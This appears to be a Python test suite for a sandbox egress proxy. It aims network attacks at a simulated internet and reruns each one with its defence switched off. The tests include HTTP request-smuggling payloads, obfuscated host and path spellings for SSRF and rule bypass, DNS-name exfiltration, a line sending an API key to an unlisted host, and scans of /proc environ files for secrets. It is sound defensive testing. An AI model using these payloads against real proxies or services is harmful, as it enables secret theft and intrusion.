"""Attacks on the way out (groups H and I), each with the mitigation off as well.

The small internet of tests/cli/egress_world.py is both ends; what arrived there
decides.

SPDX-License-Identifier: Apache-2.0
"""

from __future__ import annotations

import atexit
import functools
import json
import textwrap
import threading
import unittest
from pathlib import Path
from typing import Any

from egress_box import PRELUDE, SECRET, SECRETS, World
from tool import Caisson, needs_jail

LOCK = threading.Lock()


@functools.cache
def world(binary: Path) -> World:
    made = World(binary)
    atexit.register(made.close)
    made.exec(made.policy("allow: [api.test]"), "true")  # probes are kept
    return made


def visit(caisson: Caisson, egress: str, code: str, weak: str = "", **more: Any) -> tuple[Any, Any]:
    """What the program printed, and what the servers saw."""
    needs_jail(caisson)
    with LOCK:
        w = world(Path(caisson.binary))
        w.log()
        env = {**more.pop("env", {}), **({"CAISSON_WEAKEN": weak} if weak else {})}
        args = more.pop("args", ())
        got, _ = w.python(w.policy(egress, more.pop("also", "")), code, *args, env=env, **more)
        return got, w.log()


def without(caisson: Caisson, wall: str, *args: Any, **more: Any) -> tuple[Any, Any]:
    """The same with one mitigation off; only test builds can."""
    try:
        return visit(caisson, *args, weak=wall, **more)
    except AssertionError as why:
        if "weaken" in str(why):
            raise unittest.SkipTest("a release build has no such switch") from None
        raise


def outside(caisson: Caisson, code: str, *args: str) -> Any:
    """What a program prints in the same small internet without a sandbox."""
    needs_jail(caisson)
    with LOCK:
        w = world(Path(caisson.binary))
        trust = {"SSL_CERT_FILE": f"{w.folder}/ca.pem"}
        done = w.ask(run=["python3", "-c", PRELUDE + textwrap.dedent(code), *args], env=trust)
    assert done["code"] == 0, done
    return json.loads(done["out"])


def starts(caisson: Caisson, egress: str) -> bool:
    """Does a sandbox start with these rules?"""
    needs_jail(caisson)
    with LOCK:
        w = world(Path(caisson.binary))
        return bool(w.exec(w.policy(egress), "true", fails=True)["exit_code"] == 0)


DIRECT = """
    out = []
    for family, kind, to in ((socket.AF_INET, socket.SOCK_STREAM, ("20.0.0.1", 443)),
                             (socket.AF_INET, socket.SOCK_STREAM, ("20.0.0.1", 80)),
                             (socket.AF_INET, socket.SOCK_DGRAM, ("20.0.0.1", 53))):
        s = socket.socket(family, kind)
        s.settimeout(5)
        try:
            s.connect(to)
            s.send(b"x")
            out.append("sent")
        except OSError:
            out.append("refused")
    print(json.dumps(out))
"""


def test_h02_h03_direct_connections(caisson: Caisson) -> None:
    got, _ = visit(caisson, "allow: [api.test]", DIRECT)
    assert got == ["refused"] * 3
    # twin: outside of a sandbox
    assert outside(caisson, DIRECT) == ["sent"] * 3


def test_h01_rules_that_grant_nothing(caisson: Caisson) -> None:
    code = """
        out = []
        for port in (3128, 53):
            try: socket.create_connection(("127.0.0.1", port), timeout=5); out.append("connected")
            except OSError: out.append("refused")
        print(json.dumps(out))
    """
    got, _ = visit(caisson, "allow: []", code)
    assert got == ["refused"] * 2
    for wrong in ("alow: [api.test]", "allow: {host: api.test}", "allow: [api_test]", "allow: ['*']",
                  "allow: [{host: api.test, port: 443}]", "allow: ['*.com']", "allow: ['*.github.io']"):
        assert not starts(caisson, wrong), wrong
    # twin: a rule that is right
    assert starts(caisson, "allow: [api.test]")
    got, _ = visit(caisson, "allow: [api.test]", code)
    assert got == ["connected"] * 2


def test_h04_names_as_messages(caisson: Caisson) -> None:
    rules = "allow: [{host: '*.wild.test', proto: http}, {host: wild.test, proto: http}]"
    code = """
        ask = lambda n: verdict(raw(b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % (n, n)))
        print(json.dumps([[ask(b"n%d.wild.test" % i) for i in range(130)] for _ in range(2)]))
    """
    (first, second), seen = visit(caisson, rules, code)
    assert first == ["403 resolve_failed"] * 120 + ["403 budget"] * 10
    assert second == first  # asking again does not make a name an old one
    assert len({name for name, _ in seen["dns"]}) == 120
    # twin: without(names) the resolver is asked for a name that no rule has
    code = """
        s, v = connect("evil-message.test")
        if v == "200": tls(s, "evil-message.test").sendall(b"GET / HTTP/1.1\\r\\nHost: evil-message.test\\r\\n\\r\\n")
        print(json.dumps(v))
    """
    got, seen = visit(caisson, "allow: [api.test]", code)
    assert (got, seen["dns"]) == ("403 not_allowed", [])
    _, seen = without(caisson, "egress.names", "allow: [api.test]", code)
    assert ["evil-message.test", 1] in seen["dns"]


def test_h05_h07_odd_spellings(caisson: Caisson) -> None:
    names = ["api.test%00", "api.test\\@evil.test", "api.test..", "api\uff0etest".encode().decode("latin-1"),
             "0x7f.1", "0177.0.0.1", "2130706433", "127.1", "[::ffff:127.0.0.1]", "[fe80::1%25lo]", "[::1",
             "api.test:443@evil.test", "xn--e1afmkfd.wild.test"]
    code = """
        names = [x.encode("latin-1") for x in json.loads(sys.argv[1])]
        print(json.dumps([connect(n)[1] for n in names]))
    """
    with_args = {"args": (json.dumps(names),)}
    got, seen = visit(caisson, "allow: [api.test, '*.wild.test']", code, **with_args)
    assert set(got) <= {"403 bad_name", "403 not_allowed", "403 protocol"}, dict(zip(names, got))
    assert seen["dns"] == [] and seen["http"] == []
    # twin: the plain spellings of what is allowed
    plain = {"args": (json.dumps(["api.test", "API.test.", "a.wild.test"]),)}
    got, _ = visit(caisson, "allow: [api.test, '*.wild.test']", code, **plain)
    assert got == ["200"] * 3


def test_h09_answers_that_change(caisson: Caisson) -> None:
    rules = "allow: [{host: rebind.test, proto: http}]"
    code = """
        ask = lambda: verdict(raw(b"GET http://rebind.test/ HTTP/1.1\\r\\nHost: rebind.test\\r\\nConnection: close\\r\\n\\r\\n"))
        print(json.dumps([ask(), ask()]))
    """
    got, seen = visit(caisson, rules, code)
    assert got == ["200", "403 address_class"]
    assert len(seen["http"]) == 1
    got, seen = without(caisson, "egress.addresses", rules, code)
    assert got == ["200", "200"]


def test_h10_h11_names_that_differ(caisson: Caisson) -> None:
    rules = "allow: [api.test, other.test]"
    code = """
        ask = lambda h: f"GET / HTTP/1.1\\r\\nHost: {h}\\r\\nConnection: close\\r\\n\\r\\n".encode()
        out = []
        for sni, host in (("other.test", "other.test"), ("api.test", "other.test"), (None, "api.test"))[int(sys.argv[1]):]:
            s, _ = connect("api.test")
            out.append(verdict(talk(tls(s, sni), ask(host))))
        print(json.dumps(out))
    """
    got, seen = visit(caisson, rules, code, args=("0",))
    assert got == ["421 name_mismatch", "421 name_mismatch", "403 no_sni"]
    assert seen["http"] == []
    # The client itself refuses a certificate for another name: not in the control.
    got, seen = without(caisson, "egress.identity", rules, code, args=("1",))
    assert got == ["200"] * 2


def test_h12_other_protocols(caisson: Caisson) -> None:
    code = """
        s, _ = connect("api.test")
        t = tls(s, "api.test")
        t.sendall(b"GET /ws HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: Upgrade\\r\\n"
                  b"Upgrade: websocket\\r\\nSec-WebSocket-Key: x\\r\\n\\r\\n")
        out = [verdict(talk(t, b"hello\\n"))]
        s, _ = connect("api.test")
        out.append(verdict(talk(tls(s, "api.test"), b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")))
        s, _ = connect("api.test")
        out.append(len(talk(s, b"SSH-2.0-x\\r\\n")))
        print(json.dumps(out))
    """
    got, seen = visit(caisson, "allow: [api.test]", code)
    assert got == ["403 protocol", "403 protocol", 0]
    assert seen["http"] == []
    # twin: a rule that allows WebSocket
    got, _ = visit(caisson, "allow: [{host: api.test, upgrade: true}]", code)
    assert got == ["101", "403 protocol", 0]


SMUGGLED = [
    b"POST {to} HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n"
    b"Connection: close\r\n\r\n0\r\n\r\n",
    b"POST {to} HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 0\r\nContent-Length: 3\r\n"
    b"Connection: close\r\n\r\nabc",
    b"GET {to} HTTP/1.1\nHost: plain.test\nConnection: close\n\n",
    b"GET {to} HTTP/1.1\r\nHost: other.test\r\nHost: plain.test\r\nConnection: close\r\n\r\n",
    b"TRACE {to} HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n\r\n",
    b"TRACK {to} HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n\r\n",
]
RAW = """
    to, port = sys.argv[1], int(sys.argv[2])
    print(json.dumps([verdict(raw(bytes.fromhex(x), (to, port))) for x in sys.argv[3:]]))
"""


def test_h13_h16_messages_that_can_be_read_twice(caisson: Caisson) -> None:
    through = [x.replace(b"{to}", b"http://plain.test/").hex() for x in SMUGGLED]
    got, seen = visit(caisson, "allow: [{host: plain.test, proto: http}]", RAW,
                      args=("127.0.0.1", "3128", *through))
    assert got == ["403 protocol"] * 4 + ["405 method"] * 2
    assert seen["http"] == []
    # twin: the same bytes straight to the server, which takes them
    direct = [x.replace(b"{to}", b"/").hex() for x in SMUGGLED if b"HTTP/1.1\n" not in x]
    assert outside(caisson, RAW, "20.0.0.1", "80", *direct) == ["200"] * len(direct)


def test_h14_ways_round_a_path_rule(caisson: Caisson) -> None:
    code = """
        paths = [b"/v1/../v2", b"/v1/%2e%2e/v2", b"/v1%2f..%2fv2", b"//v2", b"/v1/..;/v2", b"/v1x", b"/V1/", b"/v2"]
        print(json.dumps([verdict(raw(b"GET http://plain.test%s HTTP/1.1\\r\\nHost: plain.test\\r\\nConnection: close\\r\\n\\r\\n" % p)) for p in paths]))
    """
    got, seen = visit(caisson, "allow: [{host: plain.test, proto: http, paths: [/v1]}]", code)
    assert got == ["403 path"] * 8
    assert seen["http"] == []
    # twin: a rule without paths
    got, _ = visit(caisson, "allow: [{host: plain.test, proto: http}]", code)
    assert got == ["200"] * 8


def test_h15_redirections(caisson: Caisson) -> None:
    code = """
        import urllib.request, urllib.error
        try:
            print(json.dumps(urllib.request.urlopen("https://api.test/web/hop/302/other.test/echo").status))
        except urllib.error.URLError as error:
            print(json.dumps(str(error.reason)))
    """
    got, seen = visit(caisson, "allow: [api.test]", code)
    assert "403" in got
    assert [x["headers"]["host"] for x in seen["http"]] == ["api.test"]
    # twin: a rule for the other host
    got, _ = visit(caisson, "allow: [api.test, other.test]", code)
    assert got == 200


def test_h18_the_proxy_as_a_way_to_this_machine(caisson: Caisson) -> None:
    rules = "allow: [api.test, localhost, {ip: 127.0.0.1, ports: [80, 443, 3128]}, own.test]"
    code = """
        names = [b"localhost", b"localhost.", b"127.0.0.1:3128", b"127.0.0.1:80", b"own.test", b"[::1]"]
        print(json.dumps([verdict(raw(b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % (n, n))) for n in names]))
    """
    got, seen = visit(caisson, rules.replace("443, 3128", "443, 3128], proto: http, methods: [GET"), code)
    assert not any(x.startswith("200") for x in got), got
    assert seen["http"] == []
    # twin: a rule that allows it literally
    got, _ = visit(caisson, "allow: [{ip: 127.0.0.1, ports: [80], proto: http, allow_private: true}]", code)
    assert got[3] == "200"


def test_h19_odd_socks_requests(caisson: Caisson) -> None:
    code = """
        def socks(request, greeting=b"\\x05\\x01\\x00"):
            return raw(greeting + request, ("127.0.0.1", 1080), True)[:4].hex() if greeting else raw(request, ("127.0.0.1", 1080))[:4].hex()
        name = b"api.test"
        good = b"\\x05\\x01\\x00\\x03\\x08api.test\\x01\\xbb"
        out = [socks(good[:1] + b"\\x02" + good[2:]), socks(good[:1] + b"\\x03" + good[2:]),
               socks(b"\\x05\\x01\\x00\\x03\\x00\\x01\\xbb"), socks(b"\\x05\\x01\\x00\\x03\\x09api.test\\x00\\x01\\xbb"),
               socks(b"\\x05\\x01\\x00\\x01\\x14\\x00\\x00\\x01\\x01\\xbb"),
               socks(b"\\x05\\x01\\x00\\x04" + bytes(16) + b"\\x01\\xbb"), socks(good, b"\\x05\\x01\\x02"),
               socks(b"\\x04\\x01\\x01\\xbb\\x00\\x00\\x00\\x01\\x00api.test\\x00", b"")]
        s = socket.create_connection(("127.0.0.1", 1080), timeout=10)
        s.sendall(b"\\x05\\x01\\x00" + good)
        got = b""
        while len(got) < 4: got += s.recv(1)
        print(json.dumps([out, got.hex()]))
    """
    (got, good), seen = visit(caisson, "allow: [api.test]\nsocks: true", code)
    assert not any(x.startswith("05000500") for x in got), got
    assert seen["dns"] == []
    # twin: a request as it should be
    assert good == "05000500"


def test_h20_replies_without_an_end(caisson: Caisson) -> None:
    code = """
        head = b" HTTP/1.1\\r\\nHost: plain.test\\r\\nConnection: close\\r\\n\\r\\n"
        ask = lambda path, base, to: len(raw(b"GET " + base + path + head, to))
        where = (b"http://plain.test", ("127.0.0.1", 3128)) if len(sys.argv) == 1 else (b"", ("20.0.0.1", 80))
        print(json.dumps([ask(b"/interim/400", *where), ask(b"/heavy/200000", *where), ask(b"/big/3000000", *where)]))
    """
    rules = "allow: [{host: plain.test, proto: http}]\nmax_in: 1MiB"
    got, _ = visit(caisson, rules, code)
    assert got[0] < 2000 and got[1] < 2000 and got[2] < 1500000, got
    # twin: straight from the server
    got = outside(caisson, code, "direct")
    assert got[0] > 8000 and got[1] > 200000 and got[2] > 3000000


def test_h21_more_than_granted(caisson: Caisson) -> None:
    code = """
        ask = lambda n: verdict(raw(b"POST http://plain.test/ HTTP/1.1\\r\\nHost: plain.test\\r\\nConnection: close\\r\\nContent-Length: %d\\r\\n\\r\\n" % n + b"x" * n))
        print(json.dumps([ask(10), ask(10), ask(10), ask(300000), ask(10)]))
    """
    got, seen = visit(caisson, "allow: [{host: plain.test, proto: http, max_out: 100000}]", code)
    assert got[:3] == ["200"] * 3 and got[4] == "403 budget"
    got, seen = visit(caisson, "allow: [{host: plain.test, proto: http, max_requests: 2}]", code)
    assert got[:3] == ["200", "200", "403 budget"]
    # twin: a rule without budgets of its own
    got, _ = visit(caisson, "allow: [{host: plain.test, proto: http}]", code)
    assert got == ["200"] * 5


INBOUND = """
    import subprocess, time
    s = socket.create_server(("0.0.0.0", 8123))
    s.settimeout(2)
    print(json.dumps("up"), flush=True)
    try:
        s.accept()
        print("reached")
    except TimeoutError:
        print("nobody")
"""


def test_h22_connections_into_a_sandbox(caisson: Caisson) -> None:
    needs_jail(caisson)
    knock = textwrap.dedent("""
        import socket, subprocess, sys
        run = subprocess.Popen(sys.argv[1:], stdout=subprocess.PIPE, text=True)
        run.stdout.readline()
        try: socket.create_connection(("127.0.0.1", 8123), timeout=1); socket.create_connection(("20.0.0.1", 8123))
        except OSError: pass
        print(run.stdout.read().strip())
    """)
    with LOCK:
        w = world(Path(caisson.binary))
        p = w.policy("allow: [api.test]")
        inner = ["python3", "-c", PRELUDE + textwrap.dedent(INBOUND)]
        box = [str(w.caisson), "exec", "--no-audit", "--policy", p, "--", *inner]
        assert w.ask(run=["python3", "-c", knock, *box])["out"] == "nobody\n"
        # twin: the same server without a sandbox
        assert w.ask(run=["python3", "-c", knock, *inner])["out"] == "reached\n"


def test_h24_the_authority_elsewhere(caisson: Caisson) -> None:
    read = 'print(json.dumps(open("/etc/ssl/certs/ca-certificates.crt").read()))'
    one, _ = visit(caisson, "allow: [api.test]", read)
    code = """
        c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        if sys.argv[1]: c.load_verify_locations(cadata=sys.argv[1])
        else: c.load_default_certs()
        s, _ = connect("api.test")
        try: c.wrap_socket(s, server_hostname="api.test"); print(json.dumps("trusted"))
        except ssl.SSLError: print(json.dumps("refused"))
    """
    got, _ = visit(caisson, "allow: [api.test]", code, args=(one,))
    assert got == "refused"
    assert "PRIVATE" not in one
    # twin: each sandbox trusts its own
    got, _ = visit(caisson, "allow: [api.test]", code, args=("",))
    assert got == "trusted"


def test_h25_servers_that_cannot_prove_who_they_are(caisson: Caisson) -> None:
    names = ("expired.test", "selfsigned.test", "wrong.test")
    rules = f"allow: [{', '.join(names)}]"
    code = "print(json.dumps([verdict(get(n)) for n in sys.argv[1:]]))"
    got, seen = visit(caisson, rules, code, args=names)
    assert got == ["403 tls_upstream"] * 3
    assert seen["http"] == []
    got, _ = without(caisson, "egress.upstream", rules, code, args=names)
    assert got == ["200"] * 3


def test_h29_h30_one_verdict_by_every_way(caisson: Caisson) -> None:
    code = """
        port = int(sys.argv[1])
        name = sys.argv[2].encode()
        authority = name + b":%d" % port
        out = [connect(name, port)[1],
               verdict(raw(b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % (authority, authority)))]
        s = socket.create_connection(("127.0.0.1", 1080), timeout=10)
        s.sendall(b"\\x05\\x01\\x00\\x05\\x01\\x00\\x03" + bytes([len(name)]) + name + port.to_bytes(2, "big"))
        got = b""
        while len(got) < 4 and (piece := s.recv(4 - len(got))): got += piece
        out.append(got.hex())
        try: socket.create_connection((name.decode(), port), timeout=5); out.append("connected")
        except OSError: out.append("refused")
        print(json.dumps(out))
    """
    rules = "allow: [{host: api.test, ports: [443]}, {host: plain.test, proto: http}]\nsocks: true"
    for port, name in (("22", "api.test"), ("25", "api.test"), ("53", "api.test"), ("8443", "api.test"),
                       ("443", "evil.test"), ("443", "20.0.0.1")):
        got, seen = visit(caisson, rules, code, args=(port, name))
        assert got == ["403 not_allowed", "403 not_allowed", "05000502", "refused"], (port, name, got)
        assert seen["http"] == []
    # twin: the port that the rule names
    got, _ = visit(caisson, rules, code, args=("443", "api.test"))
    assert (got[0], got[2], got[3]) == ("200", "05000500", "connected")


def test_h01_h06_unlisted_names(caisson: Caisson) -> None:
    code = 'print(json.dumps([connect(n)[1] for n in ("other.test", "mixed.test")]))'
    rules = "allow: [api.test, '*.wild.test']"
    got, seen = visit(caisson, rules, code)
    assert got == ["403 not_allowed"] * 2
    assert seen["dns"] == []
    assert seen["http"] == []
    got, seen = without(caisson, "egress.names", rules, code)
    assert got == ["200"] * 2


def test_h08_h28_addresses_that_are_not_public(caisson: Caisson) -> None:
    code = 'print(json.dumps(verdict(raw(b"GET http://loopback.test/ HTTP/1.1\\r\\nHost: loopback.test\\r\\nConnection: close\\r\\n\\r\\n"))))'
    rules = "allow: [{host: loopback.test, proto: http}]"
    got, seen = visit(caisson, rules, code)
    assert got == "403 address_class"
    assert seen["http"] == []
    got, seen = without(caisson, "egress.addresses", rules, code)
    assert got == "200"
    assert len(seen["http"]) == 1


def test_i02_a_placeholder_for_another_host(caisson: Caisson) -> None:
    code = 'print(json.dumps(verdict(get("other.test", "/", "X: " + os.environ["API_KEY"] + "\\r\\n"))))'
    rules = "allow: [api.test, other.test]"
    more = {"also": SECRETS, "options": ("--secret", "api_key"),
            "env": {"CAISSON_TEST_SECRET": SECRET}}
    got, seen = visit(caisson, rules, code, **more)
    assert got == "403 secret_misuse"
    assert seen["http"] == []
    got, seen = without(caisson, "egress.secrets", rules, code, **more)
    assert SECRET in json.dumps(seen["http"])


def test_i03_a_server_that_sends_the_value_back(caisson: Caisson) -> None:
    code = 'print(json.dumps(get("api.test", "/header", "Authorization: " + os.environ["API_KEY"] + "\\r\\n").decode()))'
    rules = "allow: [api.test]"
    more = {"also": SECRETS, "options": ("--secret", "api_key"),
            "env": {"CAISSON_TEST_SECRET": SECRET}}
    got, seen = visit(caisson, rules, code, **more)
    assert SECRET in json.dumps(seen["http"])
    assert SECRET not in got
    got, _ = without(caisson, "egress.scrub", rules, code, **more)
    assert SECRET in got
    names = code.replace("/header", "/names")
    got, _ = visit(caisson, rules, names, **more)
    assert "X-csph_api_key_" in got and SECRET not in got
    assert "X-Caisson-Denial" not in got  # a server cannot speak for the judge
    got, _ = without(caisson, "egress.scrub", rules, names, **more)
    assert SECRET in got


WITH_KEY = {"also": SECRETS, "options": ("--secret", "api_key"), "env": {"CAISSON_TEST_SECRET": SECRET}}


def with_key() -> dict[str, Any]:
    return {**WITH_KEY, "env": dict(WITH_KEY["env"])}


def test_i01_i06_the_value_is_nowhere_in_a_sandbox(caisson: Caisson) -> None:
    code = """
        import glob
        half = sys.argv[1]
        value = half + sys.argv[2]
        get("api.test", "/header", "Authorization: " + os.environ["API_KEY"] + "\\r\\n")
        found = []
        def look(path, data):
            if value.encode() in data: found.append(path)
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/tmp/**", recursive=True) + glob.glob("/etc/**", recursive=True) + glob.glob("/run/**", recursive=True):
            try: look(path, open(path, "rb").read())
            except OSError: pass
        print(json.dumps(found))
    """
    split = {"args": (SECRET[:10], SECRET[10:])}
    got, seen = visit(caisson, "allow: [api.test]", code, **split, **with_key())
    assert SECRET in json.dumps(seen["http"])
    assert got == []
    # twin: a secret that the program may see itself
    open_secret = "\nsecrets:\n  api_key: {from: \"env:CAISSON_TEST_SECRET\", mode: env}\n"
    got, _ = visit(caisson, "allow: [api.test]", code, **split, **{**with_key(), "also": open_secret})
    assert [x for x in got if x.endswith("environ")]


def test_i04_the_egress_process_is_killed(caisson: Caisson) -> None:
    code = """
        out = [verdict(get("api.test", "/", "Authorization: " + os.environ["API_KEY"] + "\\r\\n"))]
        print(json.dumps(out), flush=True)
        sys.stdin.readline()
        try: connect("api.test"); out = "connected"
        except OSError: out = "refused"
        print(json.dumps(out))
    """
    kill = textwrap.dedent("""
        import os, subprocess, sys, time
        run = subprocess.Popen(sys.argv[2:], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        print(run.stdout.readline().strip())
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                if sys.argv[1] == "kill" and open(f"/proc/{pid}/stat").read().split()[3] == str(run.pid) \\
                        and open(f"/proc/{pid}/cmdline").read().startswith("caisson-egress"):
                    os.kill(int(pid), 9)
            except OSError: pass
        time.sleep(0.2)
        print(run.communicate("go\\n")[0].strip())
    """)
    needs_jail(caisson)
    with LOCK:
        w = world(Path(caisson.binary))
        p = w.policy("allow: [api.test]", SECRETS)
        box = [str(w.caisson), "exec", "-i", "--no-audit", "--policy", p, "--secret", "api_key", "--",
               "python3", "-c", PRELUDE + textwrap.dedent(code)]
        env = {"CAISSON_TEST_SECRET": SECRET}
        done = w.ask(run=["python3", "-c", kill, "kill", *box], env=env)
        assert done["out"].split("\n")[:2] == ['["200"]', '"refused"'], done
        # twin: nobody is killed
        done = w.ask(run=["python3", "-c", kill, "leave", *box], env=env)
        assert done["out"].split("\n")[:2] == ['["200"]', '"connected"'], done


def test_i05_i08_placeholders_that_are_not_this_ones(caisson: Caisson) -> None:
    code = """
        key = sys.argv[1] or os.environ["API_KEY"]
        words = [key, "x" + key, key + "0", key + "-" + key, key[:-1], key.upper()]
        for i, word in enumerate(words):
            get("api.test", "/%d" % i, "X-Key: " + word + "\\r\\n")
        print(json.dumps(key))
    """
    other, seen = visit(caisson, "allow: [api.test]", code, args=("",), **with_key())
    sent = [x["headers"]["x-key"] for x in seen["http"]]
    assert [SECRET in x for x in sent] == [True] + [False] * 5, sent  # twin: the first, alone
    _, seen = visit(caisson, "allow: [api.test]", code, args=(other,), **with_key())
    assert SECRET not in json.dumps(seen["http"])
